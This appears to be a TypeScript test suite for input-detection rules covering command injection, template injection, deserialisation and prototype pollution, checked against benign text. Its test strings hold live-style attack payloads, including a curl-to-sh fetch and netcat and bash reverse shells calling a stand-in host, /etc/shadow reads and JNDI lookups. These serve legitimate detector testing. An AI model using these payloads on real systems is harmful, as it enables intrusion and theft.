import { allows, doesNotAlert, recognises, suspects } from '../../test/recognises.ts';

describe('CMDI_RULES', () => {
  it('recognise a command behind a shell sign', () => {
    recognises('cmdi', ';id');
    recognises('cmdi', '|id|');
    recognises('cmdi', '; cat /etc/passwd');
    recognises('cmdi', '127.0.0.1; ls -la');
    recognises('cmdi', '127.0.0.1 && whoami');
    recognises('cmdi', '| nslookup evil.example.net');
    recognises('cmdi', '$(whoami)');
    recognises('cmdi', '`id`');
    recognises('cmdi', '& ping -c 10 127.0.0.1 &');
    recognises('cmdi', '|| sleep 10 ||');
    recognises('cmdi', 'a;sleep 5');
    recognises('cmdi', '%0Aid', 'query');
    recognises('cmdi', '\ncat /etc/hosts', 'query');
    recognises('cmdi', '& dir c:\\');
    recognises('cmdi', '$(sleep 5)');
    recognises('cmdi', '; curl http://evil.example.net/x.sh | sh');
    recognises('cmdi', 'x|/usr/bin/id');
    recognises('cmdi', "() { :;}; /bin/bash -c 'id'", 'header');
  });
  it('see through quotes, escapes and field separators', () => {
    recognises('cmdi', ";c''at /etc/passwd");
    recognises('cmdi', ';w"h"oami');
    recognises('cmdi', ';c\\at${IFS}/etc/passwd');
    recognises('cmdi', ';cat$IFS$9/etc/passwd');
    recognises('cmdi', ';{cat,/etc/passwd}');
    recognises('cmdi', ';cat</etc/passwd');
    recognises('cmdi', '/???/??t /etc/passwd');
  });
  it('recognise reverse shells and code of PHP, Node, Python and Java', () => {
    recognises('cmdi', 'bash -i >& /dev/tcp/10.0.0.1/4242 0>&1');
    recognises('cmdi', '<?php system($_GET["c"]); ?>');
    recognises('cmdi', 'phpinfo()');
    recognises('cmdi', "require('child_process').exec('id')");
    recognises('cmdi', '__import__("os").system("id")');
    recognises('cmdi', 'java.lang.Runtime.getRuntime().exec("id")');
    recognises('cmdi', 'class.module.classLoader.resources.context.parent.pipeline.first.pattern');
    recognises('cmdi', 'powershell -enc SQBFAFgA');
    recognises('cmdi', 'cmd.exe /c dir');
    recognises('cmdi', 'nc -e /bin/sh evil.example.net 4444');
    recognises('cmdi', '$s=fsockopen("evil.example.net",4444)');
    recognises('cmdi', 'cmd /k dir');
    recognises('cmdi', '${pwd#?}');
    recognises('cmdi', 'strings /etc/shadow');
    recognises('cmdi', 'system  ("id")');
    recognises('cmdi', 'os.execl("/bin/sh")');
    recognises('cmdi', 'java.lang.System.exit(1)');
    recognises('cmdi', 'auto_append_file=/tmp/x');
    suspects('cmdi', 'ruby -rsocket -e "exit"');
    suspects('cmdi', 'perl -MIO -e "exit"');
    suspects('cmdi', 'java.rmi.Naming');
    suspects('cmdi', 'strrev("x")');
  });
  it('allow prose, Markdown, tables and shopping', () => {
    allows('rock & roll; live');
    allows('Q&A; date night');
    allows('cats & dogs; find more');
    allows('use `npm install` first');
    allows('then `false` is returned');
    allows('| Option | Type | Default |');
    allows('Tom & Jerry');
    allows('&copy; 2024');
    allows('R&D; cat person');
    allows('$(document).ready');
    allows('Echo Dot; Kindle');
    allows('salt & pepper | set of 2');
    allows('ping pong table');
    allows('Python developer; Ruby developer');
    allows('cost: $5; ship fast');
    allows('Charlotte, NC: the city-wide event');
    allows('good food is a system (of sorts)');
    allows('battery pack (of 4)');
    doesNotAlert('Hello ${user:name}');
    allows('if defined well, it works');
    allows('more shoes etc. and type again');
    allows('ruby ring -e size');
  });
});

describe('SSTI_RULES', () => {
  it('recognise arithmetic, walks to the machine and lookups', () => {
    recognises('ssti', '{{7*7}}');
    recognises('ssti', '${7*7}');
    recognises('ssti', '#{7*7}');
    recognises('ssti', '<%= 7*7 %>');
    recognises('ssti', "{{''.__class__.__mro__[2].__subclasses__()}}");
    recognises('ssti', '{{config.items()}}');
    recognises('ssti', '${T(java.lang.Runtime).getRuntime().exec("id")}');
    recognises('ssti', '${jndi:ldap://evil.example.net/a}');
    recognises('ssti', '${${lower:j}ndi:${lower:l}dap://evil.example.net/a}');
    recognises('ssti', '${${::-j}${::-n}${::-d}${::-i}:rmi://x.example.net/a}');
    recognises('ssti', '#set($x=7*7)');
    recognises('ssti', '<#assign ex="freemarker.template.utility.Execute"?new()>');
    recognises('ssti', '{{constructor.constructor("alert(1)")()}}');
    recognises('ssti', '{$smarty.version}');
    recognises('ssti', "%{(#_memberAccess['allowStaticMethodAccess']=true)}");
    recognises('ssti', "{{7*'7'}}");
    recognises('ssti', '@(7*7)');
    recognises('ssti', '*{7*7}');
    recognises('ssti', "<%= system('id') %>");
    recognises('ssti', '{{_self.env.registerUndefinedFilterCallback("exec")}}');
    recognises('ssti', '{9*9}');
    recognises('ssti', 'T( java.lang.Runtime)');
    recognises('ssti', "#parse('x.vm')");
    recognises('ssti', '$x.class');
    recognises('ssti', '{exec}');
  });
  it('allow placeholders', () => {
    allows('{{name}}');
    allows('{{ user.first_name }}');
    allows('Hello ${firstName}');
    allows('{0} items');
    allows('50% {off}');
    allows('#1 {best}');
    allows('{9} of {10} items');
  });
});

describe('DESERIALISATION_RULES', () => {
  it('recognise serialised objects', () => {
    recognises('deserialisation', 'rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA==');
    recognises('deserialisation', 'O:8:"stdClass":1:{s:1:"a";s:1:"b";}');
    recognises('deserialisation', 'AAEAAAD/////AQAAAAAAAAAMAgAAAE');
    recognises('deserialisation', "cos\nsystem\n(S'id'\ntR.");
    recognises('deserialisation', '!!python/object/apply:os.system ["id"]');
    recognises('deserialisation', '{"rce":"_$$ND_FUNC$$_function(){}()"}');
    recognises('deserialisation', '{"@type":"com.sun.rowset.JdbcRowSetImpl"}');
    recognises('deserialisation', '!!javax.script.ScriptEngineManager [');
    recognises('deserialisation', '{"$type":"System.Windows.Data.ObjectDataProvider"}');
    recognises('deserialisation', "cposix\npopen\n(S'id'\ntR.");
    recognises('deserialisation', '\u00ac\u00ed\u0000\u0005sr');
    recognises('deserialisation', '<tree-map><entry/></tree-map>');
  });
  it('only suspect an array, which sessions hold too', () => {
    suspects('deserialisation', 'a:1:{i:0;s:1:"a";}');
    doesNotAlert('a:1:{i:0;s:1:"a";}');
  });
  it('allow identifiers in base64', () => {
    allows('dGhpcyBpcyBhIHRlc3Q=');
    allows('eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9');
    allows('550e8400-e29b-41d4-a716-446655440000');
    allows('AAAAB3NzaC1yc2EAAAADAQABAAABAQ');
  });
});

describe('PROTOTYPE_POLLUTION_RULES', () => {
  it('recognise names that reach a prototype', () => {
    recognises('prototype_pollution', '__proto__');
    recognises('prototype_pollution', '__proto__[polluted]');
    recognises('prototype_pollution', 'a.__proto__.b');
    recognises('prototype_pollution', 'constructor[prototype][x]');
    recognises('prototype_pollution', 'constructor.prototype.x');
    recognises('prototype_pollution', '{"__proto__":{"admin":true}}');
    recognises('prototype_pollution', '{"constructor":{"prototype":{"a":1}}}');
  });
  it('allow builders and prototypes of cars', () => {
    allows('constructor');
    allows('prototype car');
    allows('team constructor standings');
  });
});
